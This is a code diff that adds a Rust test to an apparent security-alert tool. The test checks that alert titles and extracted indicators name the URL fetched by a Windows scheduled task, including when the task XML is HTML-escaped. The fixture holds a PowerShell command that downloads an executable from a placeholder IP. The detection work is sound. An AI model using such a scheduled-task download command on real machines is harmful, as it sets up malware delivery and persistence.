@@ -208,6 +208,48 @@ fn a_title_names_the_thing_or_the_account_where_nothing_else_tells_more() {
 }
 
 #[test]
+fn a_task_is_shown_with_what_it_fetches_and_not_with_the_names_of_its_xml() {
+    let content = |arguments: &str| {
+        let namespace = r#"xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\""#;
+        let head = r#"<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n"#;
+        let program = format!("<Command>powershell.exe</Command><Arguments>{arguments}</Arguments>");
+        format!(r"{head}<Task version='1.2' {namespace}>\r\n  <Actions><Exec>{program}</Exec></Actions>\r\n</Task>")
+    };
+    let escaped = |text: &str| {
+        let text = text.replace('&', "&amp;").replace(r#"\""#, "&quot;");
+        text.replace('<', "&lt;").replace('>', "&gt;")
+    };
+    let created = |rule: &str, content: &str| {
+        of(
+            rule,
+            windows(json!({"taskName": r"\\Updater", "subjectUserName": "j.doe", "taskContent": content})),
+        )
+    };
+    let fetching = content("-nop -c &quot;iwr http://203.0.113.66/a.exe&quot;");
+    for content in [fetching.clone(), escaped(&fetching), escaped(&escaped(&fetching))] {
+        let alert = created("Task created", &content);
+        assert_titles(&[(
+            alert.clone(),
+            r"Task created | web01 | \Updater http://203.0.113.66/a.exe",
+        )]);
+        let iocs: Vec<_> = mapped(&alert).iocs.into_iter().map(|ioc| ioc.value).collect();
+        assert_eq!(iocs, ["203.0.113.66", "http://203.0.113.66/a.exe"], "{content}");
+    }
+    let quiet = content("-nop");
+    assert_titles(&[
+        (created("Task created", &quiet), r"Task created | web01 | \Updater"),
+        (
+            created(r"Task \Updater created", &quiet),
+            r"Task \Updater created | web01 | j.doe",
+        ),
+        (
+            created(r"Task \Updater created", &fetching),
+            r"Task \Updater created | web01 | http://203.0.113.66/a.exe",
+        ),
+    ]);
+}
+
+#[test]
 fn a_group_stands_beside_who_came_into_it() {
     let change = |member: &str| {
         let mut alert = of(
